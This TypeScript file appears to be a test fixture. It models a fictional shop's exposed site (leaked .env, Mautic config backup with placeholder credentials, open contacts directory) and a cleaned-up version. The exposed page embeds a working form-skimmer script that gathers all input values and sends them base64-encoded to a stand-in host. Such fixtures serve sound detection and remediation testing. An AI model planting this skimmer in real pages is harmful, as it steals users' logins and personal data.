import { fillPlaceholders } from '../../../src/rules/placeholder.ts';
import type { CompanyFacts, Site } from './company.ts';

const settings = `APP_NAME=Shop
MAIL_MAILER=smtp
MAIL_HOST=smtp-relay.brevo.com
MAIL_USERNAME=7a1b2c001@smtp-brevo.com
MAIL_PASSWORD=xsmtpsib-{hex:64}-{alnum:16}
BREVO_API_KEY=xkeysib-{hex:64}-{alnum:16}
`;

const mauticSettings = `<?php
$parameters = array(
  'db_driver' => 'pdo_mysql',
  'db_host' => 'localhost',
  'db_user' => 'mautic',
  'db_password' => 'Sommer{digit:2}xq',
  'mailer_dsn' => 'smtp://7a1b2c001%40smtp-brevo.com:xsmtpsib-{hex:64}-{alnum:16}@smtp-relay.brevo.com:587',
  'secret_key' => '{hex:64}',
  'site_url' => 'https://mautic.company.example',
);
`;

const skimmer = `<script>document.addEventListener('submit', function () {
  var d = {}; document.querySelectorAll('input').forEach(function (f) { d[f.name] = f.value; });
  new Image().src = 'https://cdn-metrics.invalid/p.gif?d=' + btoa(JSON.stringify(d));
});</script>`;

const form = '<form action="/form/submit" method="post"><input name="email" type="email"></form>';
const login = (mode: string): string =>
  `<!DOCTYPE html><html><head><title>Mautic</title><script>var mauticBasePath = '';\nvar mauticEnv = '${mode}';</script></head><body><form><input name="_username"><input name="_password"></form></body></html>`;

/** By path: what anybody could get before the work. */
const open: Site = {
  '/': [
    'text/html',
    `<!DOCTYPE html><html><head><title>Shop</title></head><body>${form}${skimmer}<script src="/mtc.js"></script></body></html>`,
  ],
  '/mtc.js': ['text/javascript', 'var MauticTrackingObject = "mt";'],
  '/s/login': ['text/html', login('dev')],
  '/.env': ['text/plain', fillPlaceholders(settings, 1)],
  '/config/local.php.bak': ['application/octet-stream', fillPlaceholders(mauticSettings, 2)],
  '/app/release_metadata.json': [
    'application/json',
    '{"version":"4.2.0","stability":"stable","minimum_php_version":"7.4.0","minimum_mautic_version":"3.2.0"}',
  ],
  '/upgrade.php': [
    'text/html',
    '<!DOCTYPE html><html><head><title>Upgrade Mautic</title></head><body></body></html>',
  ],
  '/media/files/': [
    'text/html',
    '<html><head><title>Index of /media/files/</title></head><body><h1>Index of /media/files/</h1><hr><pre><a href="../">../</a>\n<a href="contacts.csv">contacts.csv</a></pre></body></html>',
  ],
  '/crontab.txt': [
    'text/plain',
    '*/5 * * * * php /var/www/mautic/bin/console mautic:segments:update >/dev/null\n',
  ],
};

/** What is left of it afterwards. */
const closed: Site = {
  '/': [
    'text/html',
    `<!DOCTYPE html><html><head><title>Shop</title></head><body>${form}<script src="/mtc.js"></script></body></html>`,
  ],
  '/mtc.js': ['text/javascript', 'var MauticTrackingObject = "mt";'],
};

/** Sends mail by Brevo and keeps its contacts in Mautic. */
export const marketingCompany: CompanyFacts = {
  open: () => open,
  closed: () => closed,
  commits: [
    ['.env', fillPlaceholders(settings, 1), 'Send mail by Brevo'],
    ['config/local.php', fillPlaceholders(mauticSettings, 2), 'Add Mautic'],
  ],
  cleaned: {
    'config/local.php': "<?php\n$parameters = array('db_password' => getenv('DB_PASSWORD'));\n",
  },
};
